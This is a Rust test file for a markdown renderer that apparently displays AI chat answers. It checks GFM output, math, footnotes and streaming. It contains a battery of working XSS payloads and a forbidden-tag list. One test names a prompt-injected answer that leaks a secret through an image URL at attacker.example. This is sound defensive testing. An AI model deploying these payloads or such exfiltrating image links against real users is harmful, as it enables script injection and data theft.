//! Render-level tests of the markdown module: GFM features, the XSS battery, bare-URL links,
//! code and math, footnote ids, streaming, Chinese text and a large answer.

use super::*;

mod pathological;

/// Renders with the default policy (no remote images).
fn render(md: &str) -> String {
    super::render(md, &ImageHosts::none())
}

fn render_streaming(md: &str) -> String {
    super::render_streaming(md, &ImageHosts::none())
}

/// Every real tag in `html` (text `<` is always escaped), as (name, [(attribute, value)]).
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        // Find the unquoted `>` that ends the tag.
        let mut quote = None;
        let end = rest
            .char_indices()
            .find(|&(_, c)| match quote {
                Some(q) if c == q => {
                    quote = None;
                    false
                }
                Some(_) => false,
                None if c == '"' || c == '\'' => {
                    quote = Some(c);
                    false
                }
                None => c == '>',
            })
            .map_or(rest.len(), |(i, _)| i);
        let tag = &rest[..end];
        rest = &rest[end..];
        let name: String =
            tag.trim_start_matches('/').chars().take_while(|c| !c.is_whitespace() && *c != '/').collect();
        let mut attrs = Vec::new();
        let mut body = tag[tag.find(char::is_whitespace).unwrap_or(tag.len())..].trim();
        while !body.is_empty() {
            let name_end = body.find(['=', ' ', '/']).unwrap_or(body.len());
            let attr = body[..name_end].to_ascii_lowercase();
            body = body[name_end..].trim_start_matches([' ', '/']);
            let mut value = String::new();
            if let Some(after) = body.strip_prefix('=') {
                let q = after.chars().next().unwrap_or('"');
                let inner = &after[1..];
                let close = inner.find(q).unwrap_or(inner.len());
                value = inner[..close].to_owned();
                body = inner.get(close + 1..).unwrap_or("").trim_start();
            }
            if !attr.is_empty() {
                attrs.push((attr, value));
            }
        }
        out.push((name.to_ascii_lowercase(), attrs));
    }
    out
}

/// The safety properties every rendering must have.
/// With the default policy no remote image loads, so there is no `<img>` at all.
fn assert_safe(md: &str) -> String {
    let html = render(md);
    assert_safe_html(md, &html);
    assert!(!tags(&html).iter().any(|(name, _)| name == "img"), "an <img> for {md:?}:\n{html}");
    html
}

/// [`assert_safe`] for HTML already rendered from `md`.
pub(super) fn assert_safe_html(md: &str, html: &str) {
    for (name, attrs) in tags(html) {
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "iframe"
                    | "style"
                    | "svg"
                    | "object"
                    | "embed"
                    | "form"
                    | "base"
                    | "meta"
                    | "link"
                    | "maction"
            ),
            "forbidden <{name}> for {md:?}:\n{html}"
        );
        for (attr, value) in attrs {
            assert!(!attr.starts_with("on"), "event handler {attr} for {md:?}:\n{html}");
            assert!(!attr.contains("href") || name == "a", "href on <{name}> for {md:?}:\n{html}");
            if matches!(attr.as_str(), "href" | "src" | "xlink:href" | "action" | "formaction") {
                let v = value.trim().to_ascii_lowercase();
                assert!(
                    v.starts_with("https://")
                        || v.starts_with("http://")
                        || v.starts_with("mailto:")
                        || v.starts_with("#md-"),
                    "unsafe url {value:?} for {md:?}:\n{html}"
                );
            }
        }
    }
}

#[test]
fn xss_battery_is_inert() {
    let payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](  javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](//evil.example/path)",
        "[x](/admin/delete)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        "<details open ontoggle=alert(1)>",
        "<IMG SRC=javascript:alert('XSS')>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&#58;alert(1))",
        "[x](java&#x09;script:alert(1))",
        "<javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)",
        "[x](https://example.com/\"onmouseover=\"alert(1))",
        "![x](https://example.com/a.png\"onerror=\"alert(1))",
        "www.example.com/\"onmouseover=\"alert(1)",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "$$\\color{red}{x}\\colorbox{blue}{y}$$",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "```\"><script>alert(1)</script>\nx\n```",
        "<!-- <script>alert(1)</script> -->",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "foo[^a\"onmouseover=\"x]\n\n[^a\"onmouseover=\"x]: note",
        "> <object data=\"javascript:alert(1)\"></object>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "```rust\n</code></pre><script>alert(1)</script>\n```",
        "```rust\nlet a = 1;\n```\n\n<code data-hl=\"0\"><script>alert(1)</script></code>",
        "```rust\nlet a = 1;\n```\n\n[x](https://a.example \"<code data-hl=&quot;0&quot;>\")",
    ];
    for md in payloads {
        assert_safe(md);
    }
}

#[test]
fn xss_payload_text_stays_visible() {
    let cases = [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("<a href=\"javascript:alert(1)\">click</a>", "&lt;a href=\"javascript:alert(1)\"&gt;click&lt;/a&gt;"),
        ("<iframe src=\"https://e.example\"></iframe>", "&lt;iframe src=\"https://e.example\"&gt;&lt;/iframe&gt;"),
        ("<svg onload=alert(1)>", "&lt;svg onload=alert(1)&gt;"),
        ("<style>p{}</style>", "&lt;style&gt;p{}&lt;/style&gt;"),
        ("[x](javascript:alert(1))", "<p>x</p>"),
        ("![pic](javascript:alert(1))", "<p>pic</p>"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("$\\href{javascript:alert(1)}{x}$", "<code class=\"math-error\">$\\href{javascript:alert(1)}{x}$</code>"),
    ];
    for (md, visible) in cases {
        let html = assert_safe(md);
        assert!(html.contains(visible), "{md:?} should show {visible:?}:\n{html}");
    }
}

#[test]
fn highlight_placeholders_cannot_be_forged() {
    let html =
        assert_safe("```rust\nlet a = 1;\n```\n\n<code data-hl=\"0\">evil</code> `<code data-hl=\"0\">x</code>`");
    assert_eq!(html.matches("let</span>").count(), 1, "{html}");
    assert!(html.contains("&lt;code data-hl=\"0\"&gt;evil&lt;/code&gt;"), "{html}");
    assert!(!html.contains("<code data-hl"), "{html}");
}

#[test]
fn gfm_tables_lists_and_inline() {
    let html = render("| a | b | c |\n|:-|:-:|-:|\n| 1 | **2** | `3` |\n");
    assert!(html.contains("<table><thead><tr><th style=\"text-align:left\">a</th>"), "{html}");
    assert!(html.contains("<th style=\"text-align:center\">b</th>"), "{html}");
    assert!(html.contains("<td style=\"text-align:right\"><code>3</code></td>"), "{html}");
    assert!(html.contains("<tbody>"), "{html}");

    let html = render("- [x] done\n- [ ] todo\n");
    assert!(html.contains("<li><input disabled=\"\" type=\"checkbox\" checked=\"\">\ndone</li>"), "{html}");
    assert!(html.contains("<li><input disabled=\"\" type=\"checkbox\">\ntodo</li>"), "{html}");

    assert_eq!(render("~~gone~~ *em* **strong**"), "<p><del>gone</del> <em>em</em> <strong>strong</strong></p>\n");
    assert_eq!(render("`a <b> & c`"), "<p><code>a &lt;b&gt; &amp; c</code></p>\n");
    assert_eq!(render("## Title"), "<h2>Title</h2>\n");
    assert_eq!(render("3. c\n4. d"), "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n");
    assert_eq!(render("> quoted"), "<blockquote>\n<p>quoted</p>\n</blockquote>\n");
    assert!(render("> [!NOTE]\n> careful").contains("<blockquote class=\"markdown-alert-note\">"));
    assert_eq!(render("a\\\nb\n\n---"), "<p>a<br>\nb</p>\n<hr>\n");
    assert_eq!(render(""), "");
}

#[test]
fn links_and_images() {
    assert_eq!(
        render("[site](https://example.com \"T\")"),
        "<p><a href=\"https://example.com\" title=\"T\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">site</a></p>\n"
    );
    assert_eq!(
        render("[mail](mailto:a@example.com) <b@example.com>"),
        "<p><a href=\"mailto:a@example.com\" rel=\"noopener noreferrer nofollow\">mail</a> \
         <a href=\"mailto:b@example.com\" rel=\"noopener noreferrer nofollow\">b@example.com</a></p>\n"
    );
    assert_eq!(render("[rel](../x)"), "<p>rel</p>\n");
    assert_eq!(render("![local](/etc/passwd)"), "<p>local</p>\n");
    // Spaces and quotes in URLs are percent-encoded.
    assert!(render("[x](<https://e.com/a b\">)").contains("href=\"https://e.com/a%20b%22\""));
}

#[test]
fn remote_images_are_links_by_default() {
    // A prompt-injected answer must not make the browser fetch a URL carrying data out.
    assert_eq!(
        render("![a cat](https://attacker.example/?q=secret \"T\")"),
        "<p><a class=\"image-link\" href=\"https://attacker.example/?q=secret\" title=\"T\" target=\"_blank\" \
         rel=\"noopener noreferrer nofollow\">a cat</a></p>\n"
    );
    // Without alt text the link shows the URL.
    assert!(render("![](http://e.example/x.png)").contains(">http://e.example/x.png</a>"));
    // Inside a link the label is enough: links do not nest.
    let html = render("[![badge](https://img.example/b.svg)](https://example.com)");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
    assert!(html.contains(">badge</a>"), "{html}");
    for md in
        ["![x](https://a.example/p.png)", "![x][r]\n\n[r]: https://a.example/p.png", "![x](<https://a.example/ p>)"]
    {
        assert!(!assert_safe(md).contains("<img"), "{md}");
    }
}

#[test]
fn allowed_image_hosts_load() {
    let hosts = ImageHosts::parse(&["img.example.com", "*.cdn.example.org"]).expect("valid hosts");
    assert_eq!(
        super::render("![a cat](https://img.example.com/cat.png)", &hosts),
        "<p><img src=\"https://img.example.com/cat.png\" alt=\"a cat\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>\n"
    );
    assert!(super::render("![x](https://a.cdn.example.org/x.png)", &hosts).contains("<img src="));
    for other in [
        "![x](https://attacker.example/?q=secret)",
        "![x](https://img.example.com.attacker.example/x)",
        "![x](https://img.example.com@attacker.example/x)",
        "![x](http://img.example.com/x.png)",
        "![x](https://cdn.example.org/x.png)",
    ] {
        let html = super::render(other, &hosts);
        assert_safe_html(other, &html);
        assert!(!html.contains("<img"), "{other}: {html}");
        assert!(html.contains("class=\"image-link\""), "{other}: {html}");
    }
}

#[test]
fn bare_urls_become_links_but_not_in_code_or_links() {
    let html = render("see https://example.com/a?b=1&c=2. and www.rust-lang.org");
    assert!(
        html.contains(
            "<a href=\"https://example.com/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">\
             https://example.com/a?b=1&amp;c=2</a>."
        ),
        "{html}"
    );
    assert!(html.contains("<a href=\"https://www.rust-lang.org\""), "{html}");
    assert_eq!(render("`https://example.com`"), "<p><code>https://example.com</code></p>\n");
    assert!(!render("```\nhttps://example.com\n```").contains("<a "));
    assert!(!render("    https://example.com").contains("<a "));
    let html = render("[see https://a.example](https://b.example)");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
    assert!(render("<https://example.com>").contains("<a href=\"https://example.com\""));
}

#[test]
fn raw_html_is_text_with_line_breaks() {
    assert_eq!(render("<div>\n<b>hi</b>\n</div>"), "<p>&lt;div&gt;<br>\n&lt;b&gt;hi&lt;/b&gt;<br>\n&lt;/div&gt;</p>\n");
    assert_eq!(render("x <b>bold</b> y"), "<p>x &lt;b&gt;bold&lt;/b&gt; y</p>\n");
    // `<br>` (common in table cells) is kept as a line break.
    assert!(render("| a |\n|---|\n| 1<br>2 |").contains("<td>1<br>\n2</td>"));
}

#[test]
fn code_blocks_are_highlighted_by_class() {
    let html = render("```rust\nfn main() { println!(\"<hi>\"); }\n```");
    assert!(html.starts_with("<pre class=\"code\" data-lang=\"rust\"><code><span class=\"hl-"), "{html}");
    assert!(html.contains("&lt;hi&gt;"), "{html}");
    assert!(!html.contains("style="), "{html}");

    let html = render("```brainfudge\n<script>alert(1)</script>\n```");
    assert_eq!(
        html,
        "<pre class=\"code\" data-lang=\"brainfudge\"><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n"
    );
    assert_eq!(render("```\nplain <x>\n```"), "<pre class=\"code\"><code>plain &lt;x&gt;\n</code></pre>\n");
    assert_eq!(render("    indented\n"), "<pre class=\"code\"><code>indented\n</code></pre>\n");
}

#[test]
fn math_renders_mathml() {
    let html = render("Euler: $e^{i\\pi} + 1 = 0$\n\n$$\\int_0^1 x\\,dx$$");
    assert!(html.contains("<math display=\"inline\">"), "{html}");
    assert!(html.contains("<math display=\"block\">"), "{html}");
    assert!(html.contains("<msup>"), "{html}");
    let html = render("$\\frac{1}$");
    assert!(html.contains("<code class=\"math-error\">$\\frac{1}$</code>"), "{html}");
    // Prices are not math.
    assert!(!render("costs $5 and $10").contains("<math"));
}

#[test]
fn footnote_ids_are_prefixed_and_links_match() {
    let html = render("One[^a] two[^b] again[^a].\n\n[^a]: First.\n[^b]: Second.\n");
    let ids: Vec<String> =
        tags(&html).into_iter().flat_map(|(_, attrs)| attrs).filter(|(a, _)| a == "id").map(|(_, v)| v).collect();
    let hrefs: Vec<String> = tags(&html)
        .into_iter()
        .flat_map(|(_, attrs)| attrs)
        .filter(|(a, v)| a == "href" && v.starts_with('#'))
        .map(|(_, v)| v)
        .collect();
    assert_eq!(ids.len(), 2, "{html}");
    assert_eq!(hrefs.len(), 3, "{html}");
    for id in &ids {
        assert!(id.starts_with("md-fn-"), "{id}");
    }
    for href in &hrefs {
        assert!(ids.contains(&href[1..].to_owned()), "{href} has no target in {ids:?}");
    }
    assert_eq!(hrefs[0], hrefs[2]);
    assert!(html.contains("<sup class=\"footnote-definition-label\">2</sup>"), "{html}");
    // Another message gets other ids, so two answers on one page don't collide.
    let other = render("Other[^a].\n\n[^a]: Note.\n");
    assert!(!other.contains(&ids[0]), "{other}");
}

#[test]
fn chinese_text_renders_intact() {
    let html = render("# 标题\n\n你好，**世界**！请访问 https://example.com/路径。\n\n- 第一\n- 第二");
    assert!(html.contains("<h1>标题</h1>"), "{html}");
    assert!(html.contains("你好，<strong>世界</strong>！请访问 "), "{html}");
    assert!(html.contains("href=\"https://example.com/%E8%B7%AF%E5%BE%84\""), "{html}");
    assert!(html.contains(">https://example.com/路径</a>。"), "{html}");
    assert!(html.contains("<li>第二</li>"), "{html}");
}

#[test]
fn streaming_closes_open_fences() {
    let html = render_streaming("Intro\n\n```rust\nfn main() {\n    let x = 1;");
    assert_eq!(html.matches("<pre").count(), 1, "{html}");
    assert!(html.contains("hl-"), "{html}");
    assert!(html.ends_with("</code></pre>\n"), "{html}");
    assert!(!html.contains("```"), "{html}");

    // Longer fences contain shorter ones; the inner fence stays text.
    let html = render_streaming("````text\n```js\nx\n```\n");
    assert_eq!(html, "<pre class=\"code\" data-lang=\"text\"><code>```js\nx\n```\n</code></pre>\n");

    let html = render_streaming("~~~~\ncode\n~~~\nmore");
    assert_eq!(html, "<pre class=\"code\"><code>code\n~~~\nmore\n</code></pre>\n");

    // A fence inside a list item stays in the list.
    let html = render_streaming("1. Run:\n   ```text\n   ls -l");
    assert!(html.contains("<li>") && html.contains("ls -l") && html.matches("<pre").count() == 1, "{html}");

    assert_eq!(render_streaming("just *text*"), render("just *text*"));
}

#[test]
fn large_answer_with_code_blocks_renders() {
    let mut md = String::new();
    let mut blocks = 0;
    while md.len() < 20 * 1024 {
        md.push_str(
            "## Step\n\nSome **explanation** with `inline code`, a link https://example.com/docs and $x_i^2$.\n\n",
        );
        md.push_str("```rust\nfn step(x: u32) -> u32 {\n    // comment\n    x * 2 + \"str\".len() as u32\n}\n```\n\n");
        md.push_str(
            "```python\ndef f(x):\n    return [i for i in range(x)]\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n",
        );
        blocks += 2;
    }
    md.push_str("The end.");
    let html = render(&md);
    assert_eq!(html.matches("<pre class=\"code\"").count(), blocks);
    assert!(html.contains("<p>The end.</p>"));
    assert_eq!(plain_excerpt(&md, 40).chars().count(), 40);
}

#[test]
fn warm_up_and_css_work() {
    warm_up();
    let css = highlight_css();
    assert!(css.contains(":root[data-theme=dark] .hl-"));
}

#[test]
fn random_markdown_soup_is_safe_and_does_not_panic() {
    const TOKENS: &[&str] = &[
        "<",
        ">",
        "\"",
        "'",
        "&",
        "#",
        ";",
        "`",
        "```",
        "~~~",
        "$",
        "$$",
        "\\",
        "*",
        "_",
        "~",
        "[",
        "]",
        "(",
        ")",
        "!",
        "^",
        "|",
        "-",
        ":",
        "\n",
        "\n\n",
        "  ",
        "> ",
        "1. ",
        "- [ ] ",
        "a",
        "你好",
        "。",
        "https://",
        "www.",
        "x.io",
        "javascript:",
        "<script>",
        "<img src=x onerror=alert(1)>",
        "<a href=",
        "[^1]",
        "[^1]: ",
        "\\frac{",
        "}",
        "{",
        "rust\n",
        "&#106;",
        "mailto:",
        "<br>",
        "<!--",
        "-->",
        "\t",
        "    ",
    ];
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for _ in 0..1500 {
        let mut md = String::new();
        for _ in 0..40 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            md.push_str(TOKENS[(seed % TOKENS.len() as u64) as usize]);
        }
        assert_safe(&md);
        let streamed = render_streaming(&md);
        assert!(!streamed.contains("<script"), "{md:?}");
        assert!(plain_excerpt(&md, 30).chars().count() <= 30);
    }
}
